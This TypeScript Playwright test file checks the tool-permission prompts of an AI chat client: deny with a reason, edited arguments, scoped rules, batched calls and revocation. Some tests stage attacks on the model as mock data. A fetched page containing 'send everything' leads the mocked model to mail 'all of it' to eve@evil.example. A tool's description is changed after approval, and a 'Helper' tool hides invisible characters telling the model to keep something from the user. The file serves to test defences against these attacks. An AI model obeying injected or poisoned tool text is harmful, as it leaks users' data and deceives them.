import { mkdirSync } from 'node:fs'
import { join } from 'node:path'
import { expectNoFinding } from '../fixtures/axe.ts'
import { mockModel, settingsFor } from '../fixtures/mock-provider.ts'
import { everything, shady } from '../fixtures/servers.ts'
import { expect, test } from '../fixtures/test.ts'

test.use({ servers: { everything, shady } })

test('deny with a message: the tool does not run, and the model reads why', async ({ steward, mock }) => {
  mock.on({ model: mockModel, hasToolResult: false }, { toolCalls: [{ name: 'everything__echo', arguments: { message: 'delete it all' } }] })
  mock.on({ model: mockModel, toolResultContains: 'Ask my sister first' }, { content: 'I will ask your sister.' })
  steward.prepareSettings(settingsFor(mock))
  const { chat, consent } = await steward.open()
  await chat.send('Clean up, please.')
  await expect(consent.request).toContainText('delete it all')
  await consent.deny('Ask my sister first')

  const card = chat.toolCall('Echo Tool', 'Denied')
  await expect(card).toBeVisible()
  await expect(chat.lastAnswer).toContainText('I will ask your sister.')
  await chat.unfold(card)
  await expect(card).toContainText('Ask my sister first')
  await expect(card).not.toContainText('Echo:')
})

test('edited arguments are checked against the schema, and run exactly as they were shown last', async ({ steward }) => {
  const { chat, consent } = await steward.open()
  await chat.send('call everything/get-sum a=1 b=2')
  const { request } = consent
  await consent.edit('a', 'a lot')
  await expect(request.getByRole('button', { name: 'Allow once' })).toBeDisabled()
  await consent.edit('a', '40')
  await expect(request).toContainText('Changed by you')
  await expect(request.getByRole('button', { name: 'Allow once' })).toBeEnabled()
  await consent.allowOnce()

  const card = chat.toolCall('Get Sum Tool', 'Done')
  await chat.unfold(card)
  await expect(card).toContainText('Arguments, changed by you')
  await expect(card).toContainText('The sum of 40 and 2 is 42.')
})

test('an answer covers what it says: this conversation, and no other', async ({ steward }) => {
  const { chat, consent, sidebar } = await steward.open()
  await chat.send('call everything/echo message="one"')
  await consent.allowForLonger('Allow for this conversation')
  await expect(chat.lastAnswer).toContainText('Echo: one')
  await chat.send('call everything/echo message="two"')
  await expect(chat.lastAnswer).toContainText('Echo: two')
  await expect(consent.request).toBeHidden()

  await sidebar.newConversation()
  await chat.send('call everything/echo message="three"')
  await expect(consent.request).toContainText('three')
  await consent.deny()
  await expect(chat.toolCall('Echo Tool', 'Denied')).toBeVisible()
})

test('a rule with conditions: what it would have allowed is shown first, it covers what it says, and it is taken back', async ({ steward, folder }) => {
  const notes = join(folder, 'files')
  for (const name of ['a', 'b']) mkdirSync(join(notes, name))
  const { chat, consent, settings, sidebar, page } = await steward.open()
  for (const path of [join(notes, 'b/1.md'), join(notes, 'a/2.md')]) {
    await chat.send(`call shady/add_note path="${path}"`)
    await consent.allowOnce()
    await expect(chat.lastAnswer).toContainText(`Added ${path}`)
  }

  await chat.send(`call shady/add_note path="${join(notes, 'a/3.md')}"`)
  const rule = await consent.openRule()
  const summary = rule.getByRole('status')
  await expect(summary).toContainText(`shady may run add_note where path is in ${join(notes, 'a')}, in this conversation, without a question.`)
  await expect(summary).toContainText('It would have allowed 1 of the last 2 calls.')
  await summary.getByRole('button', { name: 'Would have been asked (1)' }).click()
  await expect(summary).toContainText(join(notes, 'b/1.md'))

  await rule.getByRole('textbox', { name: 'Folder of path' }).fill(join(notes, 'b'))
  await expect(rule).toContainText('It would not cover the call that is shown')
  await expect(rule.getByRole('button', { name: 'Allow in this conversation' })).toBeDisabled()
  await rule.getByRole('button', { name: 'One folder up' }).click()
  await expect(summary).toContainText('It would have allowed all of the last 2 calls.')
  await rule.getByText('All of them').click()
  await rule.getByRole('button', { name: /For how long/ }).click()
  await page.getByRole('option', { name: '7 days' }).click()
  await expectNoFinding(page, 'a rule')
  await rule.getByRole('button', { name: 'Always allow' }).click()
  await expect(chat.lastAnswer).toContainText('a/3.md')

  await sidebar.newConversation()
  await chat.send(`call shady/add_note path="${join(notes, 'b/4.md')}"`)
  await expect(chat.toolCall('Add note', 'Done')).toBeVisible()
  await chat.send(`call shady/add_note path="${join(notes, '../elsewhere/5.md')}"`)
  await expect(consent.request).toContainText('No permission of yours covers this call')
  await consent.deny()

  await settings.open('Permissions')
  const row = page.getByRole('listitem').filter({ hasText: `shady may run add_note where path is in ${notes}` })
  await expect(row).toContainText(/ends on .* used 2 times, last just now/)
  await row.getByRole('button', { name: /^Revoke/ }).click()
  await expect(row).toHaveCount(0)
  await sidebar.newConversation()
  await chat.send(`call shady/add_note path="${join(notes, 'b/6.md')}"`)
  await expect(consent.request).toContainText('6.md')
})

test('calls of one step are one list by what they may do: a group, one line, all; and a double click answers one', async ({ steward }) => {
  const { chat, consent, page } = await steward.open()
  const calls = ['read_note path="/n/1"', 'read_note path="/n/2"', 'add_note path="/n/3"', 'add_note path="/n/4"', 'remove_note path="/n/5"', 'helper note="x"']
  await chat.send(calls.map((call) => `call shady/${call}`).join('\n'))
  const { batch, lines } = consent
  await expect(lines).toHaveCount(6)
  await expect(batch).toContainText('The model wants 6 calls at once')
  await expect(batch.getByRole('group')).toHaveText([/^Only read.*\/n\/1.*\/n\/2/s, /^Add or change, without deleting.*\/n\/3.*\/n\/4/s, /^May change, delete or send(?=.*\/n\/5)(?=.*note: x).*Look first/s])
  await expectNoFinding(page, 'a list of calls')

  const reads = batch.getByRole('group', { name: 'Only read' })
  await reads.getByRole('button', { name: 'Allow once: Only read' }).click()
  await expect(lines).toHaveCount(4)
  await expect(chat.toolCall('Read note', 'Done')).toHaveCount(2)

  await consent.openLine(1)
  const allow = (await consent.openLine(0)).getByRole('button', { name: 'Allow once' })
  await expect(allow).toBeEnabled()
  const box = await allow.boundingBox()
  if (!box) throw new Error('The button is not on the screen')
  // Where the button is, not on the button: the pointer of a person does not follow what moves.
  for (let press = 0; press < 3; press++) await page.mouse.click(box.x + box.width / 2, box.y + box.height / 2)
  await expect(lines).toHaveCount(3)
  await expect(chat.toolCall('Add note', 'Done')).toHaveCount(1)

  // What is suspicious is not part of all, unless it is chosen.
  await batch.getByRole('button', { name: 'Allow 2 once' }).click()
  await expect(lines).toHaveCount(1)
  await batch.getByRole('button', { name: 'Deny it' }).click()
  await expect(chat.toolCall('Helper', 'Denied')).toBeVisible()
  await expect(chat.stopButton).toBeHidden()
  await expect(chat.toolCall('Add note', 'Done')).toHaveCount(2)
  await expect(chat.toolCall('Remove note', 'Done')).toBeVisible()
})

test('after a turn has read from outside, the request shows the way of the data, and its server can be trusted', async ({ steward, mock }) => {
  mock.on({ model: mockModel, hasToolResult: false }, { toolCalls: [{ name: 'shady__fetch_page', arguments: { url: 'https://news.example/today' } }] })
  mock.on({ model: mockModel, toolResultContains: 'send everything' }, { toolCalls: [{ name: 'shady__send_mail', arguments: { to: 'eve@evil.example', body: 'all of it' } }] })
  mock.on({ model: mockModel, toolResultContains: 'Sent to' }, { content: 'I sent it.' })
  steward.prepareSettings(settingsFor(mock))
  const { chat, consent, servers, page } = await steward.open()
  await chat.send('What is new?')
  await consent.allowOnce()

  await expect(consent.request).toContainText(/This turn read https:\/\/news\.example\/today through shady\/fetch_page \(\d+ B\)/)
  await expect(consent.request).toContainText(/shady\/send_mail wants to send \d+ B to eve@evil\.example/)
  await expectNoFinding(page, 'a trail')
  await consent.request.getByRole('button', { name: 'Show the call of shady/fetch_page' }).click()
  await expect(chat.toolCall('Fetch page', 'Done').getByRole('button').first()).toBeFocused()
  await consent.request.getByText('Trust what shady brings, from now on').click()
  await consent.allowOnce()
  await expect(chat.lastAnswer).toContainText('I sent it.')
  await servers.open()
  await servers.choose('shady')
  await servers.tab('Options').click()
  await expect(page.getByRole('switch', { name: 'Trust what this server brings' })).toBeChecked()
})

test('a changed tool: told of quietly, shown word by word, used again once it was looked at; a poisoned one is marked with the reason', async ({ steward }) => {
  const { chat, consent, servers, page } = await steward.open()
  await chat.send('call shady/send_mail to="ada@home.example" body="hello"')
  await consent.allowForLonger('Always allow this tool')
  await expect(chat.lastAnswer).toContainText('Sent to ada')
  await chat.send('call shady/change_send_mail')
  await consent.allowOnce()
  const notice = page.getByRole('region', { name: 'Changed tools' })
  await expect(notice).toContainText('shady changed send_mail. Until you look, models are told of it as it was.')
  await chat.send('call shady/send_mail to="ada@home.example" body="again"')
  await expect(consent.request.getByRole('deletion')).toHaveText([/one person\./])
  await expect(consent.request).toContainText('was changed by its server since you last allowed it')
  await consent.deny()

  await notice.getByRole('link', { name: 'Look at what changed' }).click()
  const change = page.getByRole('region', { name: 'What changed' })
  await expect(change.getByRole('insertion')).toHaveText([/everybody\./])
  await expectNoFinding(page, 'a changed tool')
  await change.getByRole('button', { name: 'I have looked: use it as it is now' }).click()
  await expect(change).toBeHidden()
  await expect(notice).toBeHidden()

  await page.getByRole('link', { name: 'All tools' }).click()
  const entry = page.getByRole('listitem').filter({ has: page.getByRole('heading', { name: 'Helper' }) })
  await expect(entry).toContainText('Suspicious words')
  await servers.tab('Tools').waitFor()
  await entry.getByRole('link', { name: 'Helper' }).click()
  const tool = page.getByRole('region', { name: 'Tool Helper' })
  await expect(tool).toContainText('It holds characters that are not seen.')
  await expect(tool).toContainText('It tells the model to keep something from you.')
  await expect(tool.getByRole('img', { name: /hidden character U\+E0072/ }).first()).toBeVisible()
})

test('away from the conversation the request comes as a dialog, answered by keyboard alone', async ({ steward }) => {
  const { chat, consent, servers, page } = await steward.open()
  await chat.send('call everything/echo message="hi"')
  await expect(consent.request).toBeVisible()
  await servers.open()
  await expect(consent.dialog).toBeVisible()
  await expect(consent.dialog.getByRole('button', { name: 'Deny', exact: true })).toBeFocused()
  await page.keyboard.press('Escape')
  await expect(consent.dialog).toBeHidden()

  // Closing decided nothing: it waits, and is at hand.
  await page.getByRole('button', { name: 'Permission needed' }).click()
  await expect(consent.dialog).toBeVisible()
  const allow = consent.dialog.getByRole('button', { name: 'Allow once' })
  // Reached by Tab once the request has stood still for a moment.
  await expect(allow).toBeEnabled()
  for (let step = 0; step < 30 && !(await allow.evaluate((button) => button === document.activeElement)); step++) await page.keyboard.press('Tab')
  await expect(allow).toBeFocused()
  await page.keyboard.press('Enter')
  await expect(consent.dialog).toBeHidden()
  await page.goBack()
  await expect(chat.toolCall('Echo Tool', 'Done')).toBeVisible()
})
